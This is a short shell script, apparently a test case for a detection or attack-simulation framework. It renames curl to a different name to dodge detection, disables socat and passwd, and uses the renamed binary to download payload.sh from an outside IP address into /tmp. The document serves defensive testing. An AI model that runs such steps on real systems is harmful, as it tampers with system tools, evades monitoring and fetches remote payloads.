#!/bin/sh
. /opt/case/case.sh

mv /usr/bin/curl /usr/bin/cdt
chmod 000 /usr/bin/socat
chmod -x /usr/bin/passwd
/usr/bin/cdt -s http://203.0.113.10/payload.sh -o /tmp/p
test -s /tmp/p
took_place
